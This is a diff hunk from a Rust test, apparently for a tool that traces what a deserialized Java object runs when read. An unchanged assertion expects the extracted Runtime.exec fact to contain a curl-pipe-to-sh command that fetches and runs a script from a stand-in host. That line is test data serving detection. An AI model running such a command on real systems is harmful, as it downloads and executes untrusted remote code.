@@ -70,7 +70,7 @@ fn what_runs_when_an_object_is_read_is_followed_with_its_texts() {
     let exec = facts.lines().find(|fact| fact.contains("Runtime.exec")).unwrap();
     assert!(exec.contains("('sh', '-c', 'curl -s http://x.example/a | sh')"), "{exec}");
     let place = reading.facts.iter().find(|fact| fact.subject().contains("Runtime.exec")).unwrap().at.clone();
-    assert!(place.pointer.as_deref().is_some_and(|pointer| pointer.starts_with("run+")), "{place:?}");
+    assert!(place.pointer.as_ref().is_some_and(|pointer| pointer.text().starts_with("run+")), "{place:?}");
     assert!(class[usize::try_from(place.offset).unwrap()] == 0xb6, "an instruction that calls");
 }
 
